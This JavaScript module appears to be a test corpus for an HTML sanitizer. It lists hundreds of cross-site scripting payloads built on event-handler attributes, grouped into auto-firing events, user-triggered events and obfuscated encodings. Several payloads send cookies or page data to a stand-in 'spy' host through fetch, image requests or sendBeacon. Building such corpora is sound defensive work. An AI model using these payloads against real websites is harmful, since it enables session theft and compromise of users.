/** Attributes that run when something happens. */
import { family, pairs, spy, trip } from './payload.js'

// What happens by itself as soon as the element is there.
const soon = [
  `<img src=x onerror=${trip}>`,
  `<img src="https://pictures.example/ok.png" onload=${trip}>`,
  `<img srcset=x onerror=${trip}>`,
  `<picture><source srcset=x><img onerror=${trip}></picture>`,
  `<image src=x onerror=${trip}>`,
  `<input type=image src=x onerror=${trip}>`,
  `<input autofocus onfocus=${trip}>`,
  `<textarea autofocus onfocus=${trip}></textarea>`,
  `<select autofocus onfocus=${trip}><option>x</select>`,
  `<button autofocus onfocus=${trip}>x</button>`,
  `<keygen autofocus onfocus=${trip}>`,
  `<a href=# autofocus onfocus=${trip}>x</a>`,
  `<p contenteditable autofocus onfocus=${trip}>x</p>`,
  `<p tabindex=0 autofocus onfocusin=${trip}>x</p>`,
  `<b tabindex=1 autofocus onfocus=${trip}>x</b>`,
  `<details open ontoggle=${trip}><summary>x</summary></details>`,
  `<details open ontoggle="${trip}">x`,
  `<audio src=x onerror=${trip}></audio>`,
  `<video src=x onerror=${trip}></video>`,
  `<video><source src=x onerror=${trip}></video>`,
  `<audio><source src=x onerror=${trip}></audio>`,
  `<video src=x onloadstart=${trip}></video>`,
  `<video src=x onemptied=${trip}></video>`,
  `<video poster=x src=x onsuspend=${trip} onerror=${trip}>`,
  `<video controls autoplay onloadstart=${trip}><source src=x></video>`,
  `<iframe onload=${trip}></iframe>`,
  `<iframe src=x onload=${trip}></iframe>`,
  `<frameset onload=${trip}>`,
  `<frameset><frame onload=${trip} src=x></frameset>`,
  `<object data=x onerror=${trip}></object>`,
  `<object data=x onload=${trip}></object>`,
  `<object onerror=${trip} data="https://spy.example/none"></object>`,
  `<embed src=x onload=${trip}>`,
  `<embed src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'/%3E" onload=${trip}>`,
  `<body onload=${trip}>`,
  `<body onpageshow=${trip}>`,
  `<body onfocus=${trip} onblur=${trip} onresize=${trip}>`,
  `<html onload=${trip}>`,
  `<body><body onhashchange=${trip}><a id=h href=#h>x`,
  `<svg onload=${trip}></svg>`,
  `<svg onload=${trip}>`,
  `<svg><g onload=${trip}></g></svg>`,
  `<style onload=${trip}>p{}</style>`,
  `<link rel=stylesheet href=x onerror=${trip}>`,
  `<link rel=preload as=image href=x onerror=${trip}>`,
  `<script src=x onerror=${trip}></script>`,
  `<track default src=x onerror=${trip}>`,
  `<video src=x><track default src=x onerror=${trip}></video>`,
  `<marquee onstart=${trip}>x</marquee>`,
  `<marquee loop=1 width=0 onfinish=${trip}>x</marquee>`,
  `<marquee loop=2 onbounce=${trip} behavior=alternate>x</marquee>`,
  `<style>@keyframes k{from{opacity:0}}</style><p style="animation:k 1ms" onanimationstart=${trip}>x</p>`,
  `<style>@keyframes k{from{opacity:0}}</style><p style="animation:k 1ms" onanimationend=${trip}>x</p>`,
  `<style>@keyframes k{from{opacity:0}}</style><b style="animation:k 1ms 2" onanimationiteration=${trip}>x</b>`,
  `<p style="display:block;content-visibility:auto" oncontentvisibilityautostatechange=${trip}>x</p>`,
  `<dialog open onclose=${trip}><form method=dialog><button autofocus>x</button></form></dialog>`,
  `<input value=x onselect=${trip} onselectionchange=${trip} autofocus onfocus=this.select()>`,
  `<isindex type=image src=1 onerror=${trip}>`,
  `<bgsound src=x onerror=${trip}><img src=x onerror=${trip}>`,
  `<math><mi onload=${trip} tabindex=0 autofocus onfocus=${trip}>x</mi></math>`,
  `<svg><a tabindex=0 autofocus onfocus=${trip}><text>x</text></a></svg>`,
  `<svg><image href=x onerror=${trip} /></svg>`,
  `<svg><animate onbegin=${trip} attributeName=x dur=1ms>`,
  `<svg><animate attributeName=x dur=1ms onend=${trip} /></svg>`,
  `<svg><set onbegin=${trip} attributeName=x dur=1ms>`,
  `<svg><set onend=${trip} attributeName=x dur=1ms></svg>`,
  `<svg><animateTransform onbegin=${trip} attributeName=transform></svg>`,
  `<svg><animateMotion onbegin=${trip} dur=1ms></svg>`,
  `<svg><animate onrepeat=${trip} attributeName=x dur=1ms repeatCount=2 /></svg>`,
  `<svg><discard onbegin=${trip} begin=0s /></svg>`,
  `<svg><script href=x onerror=${trip} /></svg>`,
  `<svg><feimage href=x onerror=${trip} onload=${trip} /></svg><img src=x onerror=${trip}>`,
]

// What happens when somebody does something: the browser is made to do all of it.
const names = (
  'abort afterprint auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle ' +
  'beforeunload blur cancel canplay canplaythrough change click close command contextmenu copy cuechange cut dblclick ' +
  'drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange ended formdata fullscreenchange ' +
  'gotpointercapture input invalid keydown keypress keyup languagechange loadeddata loadedmetadata lostpointercapture ' +
  'message messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online ' +
  'pagehide paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout ' +
  'pointerover pointerrawupdate pointerup popstate progress ratechange reset scroll scrollend search ' +
  'securitypolicyviolation seeked seeking selectstart slotchange stalled storage submit timeupdate touchcancel ' +
  'touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection ' +
  'unload volumechange waiting webkitanimationend webkittransitionend wheel'
).split(' ')
const hosts = ['p', 'b', 'a href=/x', 'li', 'td', 'figure', 'blockquote', 'ruby', 'abbr', 'time']

// How an attribute may be set off and quoted. Of NUL, browsers make a replacement character.
const written = [
  ...['/', '\t', '\n', '\f', '\r', '\r\n', ' / ', '//', '\n/\t', ' x=y ', ' "" ', ` ' `].map(
    (gap) => `<img${gap}src=x${gap}onerror=${trip}>`,
  ),
  `<img src=x onerror="${trip}">`,
  `<img src=x onerror='${trip}'>`,
  `<img src=x onerror=\`${trip}\`>`,
  `<img src=x onerror = "${trip}" >`,
  `<img src=x onerror\n=\n${trip}>`,
  `<img src=x ONERROR=${trip}>`,
  `<IMG SRC=x oNeRrOr=${trip}>`,
  `<img src=x onerror=&#116;rip()>`,
  `<img src=x onerror=&#x74;&#x72;&#x69;&#x70;&lpar;&rpar;>`,
  `<img src=x onerror=&#0000116rip()>`,
  `<img src=x onerror="&Tab;trip&NewLine;()">`,
  `<img src=x onerror=trip\`\`>`,
  `<img src=x onerror=window['tr'+'ip']()>`,
  `<img src=x onerror="eval(atob('dHJpcCgp'))">`,
  `<img src=x onerror="setTimeout\`trip\\x28\\x29\`">`,
  `<img src=x onerror=\\u0074rip()>`,
  `<img src=x onerror="javascript:${trip}">`,
  `<img src=x onerror="javascript&colon;${trip}">`,
  `<img src=x onerror=import('data:text/javascript,top.trip()')>`,
  `<img src=x onerror="fetch('${spy}/'+document.title)">`,
  `<img src=x onerror="new Image().src='${spy}/'+document.cookie">`,
  `<img src=x onerror="navigator.sendBeacon('${spy}/beacon')">`,
  `<img src=x onerror="location='${spy}/gone'">`,
  `<img src=x onerror=alert(1)>`,
  `<img src=x onerror=confirm(1)>`,
  `<img src=x onerror=prompt(1)>`,
  `<img src=x onerror="document.body.innerHTML='gone'">`,
  `<img src=x onerror="document.title='gone'">`,
  `<img src=x onerror="console.log('here')">`,
  `<img src=x onerror="throw 1">`,
  `<img alt="<x" src=x onerror=${trip}>`,
  `<img alt=">" src=x onerror=${trip}>`,
  `<img alt='">' src=x onerror=${trip}>`,
  `<img src="x" onerror=${trip} onerror=x alt=a alt=b>`,
  `<img src=x onerror=x:${trip}>`,
  `<img src=x on\u0000error=${trip} onerror=${trip}>`,
  `<img src=x onerror\u0000=x onerror=${trip}>`,
]

/** The family. */
export const handlers = [
  ...family('event that comes by itself', soon),
  ...family(
    'event that somebody makes',
    names.map((name, n) => `<${hosts[n % hosts.length]} on${name}="${trip}">x`),
  ),
  ...family('how a handler is written', written),
  ...family(
    'handlers of elements that stay',
    pairs(
      ['h1', 'ul', 'table', 'pre', 'q', 'ins', 'bdi', 'details'],
      ['click', 'mouseover'],
      (name, event) => `<${name} class="a" on${event}='${trip}' id="b">x</${name}>`,
    ),
  ),
]
